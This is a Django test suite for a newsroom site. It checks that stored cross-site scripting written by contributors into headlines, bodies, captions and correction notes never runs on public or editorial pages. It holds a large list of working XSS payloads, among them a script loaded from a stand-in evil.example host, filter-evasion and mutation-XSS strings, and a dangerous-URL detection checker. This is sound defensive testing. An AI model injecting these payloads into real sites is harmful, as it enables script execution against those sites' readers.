"""Battery row 6: stored XSS by contributors.

Each payload goes into everything a contributor can write (headline, standfirst, body, an image's caption and alt
text, a correction's note) and every page that shows it is parsed: nothing in it may run. The checks are made on
the parsed page, not on its text: no script but the site's own, no event-handler attributes, no dangerous URL in
any attribute a browser follows, and none of the elements that can load or run code.
"""

import html
import json
import re
from html.parser import HTMLParser

import pytest
from django.test import Client

from newsdesk.news.models import Article
from newsdesk.news.text import sanitize_html
from newsdesk.newsroom import editing
from tests.factories import ArticleFactory, ImageFactory, png_file, staff

pytestmark = pytest.mark.django_db

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://example.com/"><script>alert(1)</script></a>',
    # event handlers, on tags the allow-list drops and on tags it keeps
    "<img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="https://example.com/x.png" onload="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a onclick="alert(1)" href="https://example.com/">x</a>',
    '<a href="#" onclick="alert(1)">anchor</a>',
    '<a href="tel:+994125550000" onmouseover=alert(1)>call</a>',
    '<p onmouseover="alert(1)">hover</p>',
    "<strong onpointerenter=alert(1)>x</strong>",
    '<h2 onclick="alert(1)">x</h2>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>custom element</x>",
    "<frameset onload=alert(1)>",
    # dangerous URLs
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
    ':alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#x0E;javascript:alert(1)">x</a>',
    f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<img src=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1);">',
    '<img srcset="javascript:alert(1) 1x">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<blockquote cite="javascript:alert(1)">quoted</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # frames, plugins, forms and document-level elements
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="javascript:alert(1)"></applet>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # styles
    '<p style="width: expression(alert(1))">x</p>',
    '<h3 style="background:url(javascript:alert(1))">x</h3>',
    '<style>@import "javascript:alert(1)";</style>',
    '<xss style="behavior: url(x.htc);">x</xss>',
    # parser differentials, mutation XSS, broken markup
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x" alt="unclosed onerror=alert(1)',
    '<a href="https://example.com/ onclick=alert(1)>unclosed attribute',
    '<img """><script>alert(1)</script>">',
    # entities and escapes that must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # template syntax and markdown: stored text, never evaluated
    "{{ request.META }}{% debug %}<script>alert(1)</script>",
    '{% load static %}{% include "base.html" %}',
    "{{ settings.SECRET_KEY }}",
    "[x](javascript:alert(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "![x](javascript:alert(1))",
    "javascript:alert(1)",
]

ALLOWED_LINKS = [
    "https://example.com/story?id=1&amp;ref=home",
    "http://example.com/",
    "mailto:desk@example.com",
    "tel:+994125550000",
    "/news/1/story/",
    "story/",
    "../archive/",
    "#changes",
    "?page=2",
]
REFUSED_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    f"data:text/html;base64,{B64_SCRIPT}",
    "data:image/png;base64,iVBORw0KGgo=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.com/file",
    "blob:https://example.com/0f1e",
    "sms:+994125550000",
    "ws://example.com/socket",
]

# Attributes a browser fetches or navigates to; srcset holds a comma-separated list.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "srcset", "poster", "background", "cite",
    "codebase", "code", "lowsrc", "dynsrc", "ping", "manifest", "longdesc", "usemap", "icon",
}  # fmt: skip
DANGEROUS_SCHEMES = ("javascript:", "data:text/html", "vbscript:")
# Elements that load or run something of their own; the site's templates use none of them.
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "isindex", "template",
}  # fmt: skip
# Scripts the site's own templates include: static files and the admin's translation catalogue.
SITE_SCRIPT_SOURCES = ("/static/", "/newsroom/jsi18n/")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f-\x9f]")


class PageParser(HTMLParser):
    """Every start tag with its attributes, and the text of every <script>."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[tuple[dict[str, str], list[str]]] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if tag == "script":
            self.scripts.append((attributes, []))
            self._in_script = True

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1][1].append(data)


def url_values(name: str, value: str) -> list[str]:
    candidates = value.split(",") if name == "srcset" else [value]
    return [_IGNORED_IN_URLS.sub("", html.unescape(candidate)).lower() for candidate in candidates]


def offences(page: str) -> list[str]:
    """What in this page could run a contributor's code; empty when nothing can."""
    parser = PageParser()
    parser.feed(page)
    parser.close()
    found = []
    for attributes, text in parser.scripts:
        source, code = attributes.get("src", ""), "".join(text)
        if attributes.get("type") == "application/ld+json":
            # Structured data: never executed, and safe as long as it is JSON that cannot close the element.
            if "<" in code:
                found.append(f"structured data able to close its <script>: {code[:80]!r}")
            else:
                json.loads(code)
            continue
        if source and not source.startswith(SITE_SCRIPT_SOURCES):
            found.append(f"script from {source!r}")
        if not source and "nonce" not in attributes:
            found.append(f"inline script without the page's nonce: {code[:80]!r}")
        if re.search(r"alert|evil\.example|msgbox", code):
            found.append(f"script running the payload: {code[:80]!r}")
    for tag, attributes in parser.elements:
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{tag}> element")
        if tag == "meta" and "http-equiv" in attributes:
            found.append(f"<meta http-equiv={attributes['http-equiv']!r}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc":
                found.append(f"<{tag} srcdoc>")
            if name == "style" and re.search(r"expression|javascript:|behavior", value, re.IGNORECASE):
                found.append(f"<{tag} style={value!r}>")
            if name in URL_ATTRIBUTES and any(
                url.startswith(DANGEROUS_SCHEMES) for url in url_values(name, value)
            ):
                found.append(f"<{tag} {name}={value!r}>")
    return found


def first_anchor(fragment: str) -> dict[str, str] | None:
    parser = PageParser()
    parser.feed(fragment)
    return next((attributes for tag, attributes in parser.elements if tag == "a"), None)


def following(texts: list[str], text: str) -> str:
    """Another text of the same corpus, for the other side of a diff."""
    return texts[(texts.index(text) + 1) % len(texts)]


def packed(payloads: list[str], limit: int = 200) -> list[str]:
    """The payloads joined into as few texts as fit a headline, for the pages where every field is escaped."""
    texts, current = [], []
    for payload in payloads:
        if current and len(" ".join([*current, payload])) > limit:
            texts.append(" ".join(current))
            current = []
        current.append(payload)
    return [*texts, " ".join(current)]


PACKED = packed(PAYLOADS)
PACKED_IDS = [f"pack{index:02}" for index in range(len(PACKED))]


def written_by_contributor(payload: str, **fields) -> Article:
    """A public article with the payload in every text a contributor writes, and in its picture's texts."""
    picture = ImageFactory(file=png_file(40, 30), alt_text=payload, caption=payload)
    return ArticleFactory(
        headline=payload, standfirst=payload, body=payload, lead_image=picture, priority=1, **fields
    )


def saved(article: Article, user, *, text: str):
    """A minor save as the newsroom makes it: version claimed, article saved, revision recorded."""
    before = editing.texts_of(Article.objects.get(pk=article.pk))
    editing.claim_version(article, base_version=article.version)
    article.headline, article.standfirst, article.body = text, text, text
    article.save()
    return editing.record_save(article, by=user, before=before)


@pytest.fixture
def editor_user():
    return staff("Editor")


@pytest.fixture
def editor(editor_user):
    client = Client()
    client.force_login(editor_user)
    return client


def page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


# -- the corpus and the checker ---------------------------------------------------------------------------------


def test_corpus_has_at_least_fifty_distinct_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


def test_every_payload_fits_a_headline():
    assert max(len(payload) for payload in PAYLOADS) <= Article._meta.get_field("headline").max_length


def test_packed_texts_hold_every_payload_and_fit_a_headline():
    assert " ".join(PACKED) == " ".join(PAYLOADS)
    assert max(len(text) for text in PACKED) <= Article._meta.get_field("headline").max_length


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" &#x0E;JaVa&#x09;Script:alert(1)">x</a>',
        '<img srcset="/a.png 1x, data:text/html,x 2x">',
        '<iframe src="/"></iframe>',
        '<meta http-equiv="refresh" content="0">',
        '<p style="width: expression(alert(1))">x</p>',
        '<script src="https://evil.example/x.js"></script>',
    ],
)
def test_checker_catches_executable_markup(markup):
    assert offences(markup)


def test_checker_accepts_the_sites_own_scripts_and_escaped_payloads():
    markup = (
        '<script src="/static/admin/js/core.js"></script><script nonce="abc">{"imports": {}}</script>'
        '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><a href="/news/1/x/">x</a>'
    )
    assert offences(markup) == []


# -- the allow-list ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitized_body_contains_nothing_executable(payload):
    assert offences(sanitize_html(payload)) == []


@pytest.mark.parametrize("href", ALLOWED_LINKS)
def test_sanitizer_keeps_http_https_mailto_tel_and_relative_links(href):
    anchor = first_anchor(sanitize_html(f'<a href="{href}">link</a>'))

    assert anchor is not None and anchor.get("href") == html.unescape(href)


@pytest.mark.parametrize("href", REFUSED_LINKS)
def test_sanitizer_drops_links_with_any_other_scheme(href):
    anchor = first_anchor(sanitize_html(f'<a href="{href}">link</a>'))

    assert anchor is None or "href" not in anchor


@pytest.mark.parametrize("src", REFUSED_LINKS)
def test_sanitizer_drops_image_sources_with_any_other_scheme(src):
    cleaned = sanitize_html(f'<img src="{src}" alt="">')

    assert "src=" not in cleaned


# -- public pages ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_article_page_runs_no_contributor_code(client, payload):
    article = written_by_contributor(payload)

    assert offences(page(client, article.get_absolute_url())) == []


def test_template_syntax_in_stored_text_is_shown_as_typed(client):
    typed = "{{ 7|add:35 }} {% now 'Y' %}"
    article = ArticleFactory(headline=typed, standfirst=typed, body=f"<p>{typed}</p>")

    shown = html.unescape(page(client, article.get_absolute_url()))

    assert shown.count(typed) >= 3


@pytest.mark.parametrize("text", PACKED, ids=PACKED_IDS)
def test_home_page_runs_no_contributor_code(client, text):
    written_by_contributor(text, is_breaking=True)

    assert offences(page(client, "/")) == []


def corrected(text: str, *, was: str) -> Article:
    """A public article corrected from one hostile text to another, with the new text as the note to readers.

    The text before is passed raw (not as the sanitiser left it), so the diff must escape whatever it is given.
    """
    before = dict.fromkeys(("headline", "standfirst", "body"), was)
    article = written_by_contributor(was)
    article.headline, article.standfirst, article.body = text, text, text
    editing.prepare_public_change(article, kind=editing.ChangeKind.CORRECTION)
    article.save()
    editing.record_save(
        article, by=staff("Editor"), before=before, kind=editing.ChangeKind.CORRECTION, note=text
    )
    return article


@pytest.mark.parametrize("payload", PAYLOADS)
def test_public_changelog_runs_no_contributor_code(client, payload):
    article = corrected(payload, was=following(PAYLOADS, payload))
    assert article.public_changes.get().diff_html

    assert offences(page(client, article.get_absolute_url())) == []


@pytest.mark.parametrize("text", PACKED, ids=PACKED_IDS)
def test_corrections_page_runs_no_contributor_code(client, text):
    corrected(text, was=following(PACKED, text))

    assert offences(page(client, "/corrections/")) == []


# -- the newsroom ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", PACKED, ids=PACKED_IDS)
def test_article_change_form_runs_no_contributor_code(editor, text):
    article = written_by_contributor(text)

    assert offences(page(editor, f"/newsroom/news/article/{article.pk}/change/")) == []


@pytest.mark.parametrize("text", PACKED, ids=PACKED_IDS)
def test_revisions_compare_view_runs_no_contributor_code(editor, editor_user, text):
    article = written_by_contributor(text)
    first = saved(article, editor_user, text=text)
    second = saved(article, editor_user, text=following(PACKED, text))

    compared = page(editor, f"/newsroom/news/article/{article.pk}/revisions/?a={first.pk}&b={second.pk}")
    assert 'class="diff__field"' in compared

    assert offences(compared) == []


def test_image_list_runs_no_contributor_code(editor):
    for payload in PAYLOADS:
        ImageFactory(file=png_file(40, 30), alt_text=payload, caption=payload, credit=payload[:120])

    assert offences(page(editor, "/newsroom/news/image/")) == []
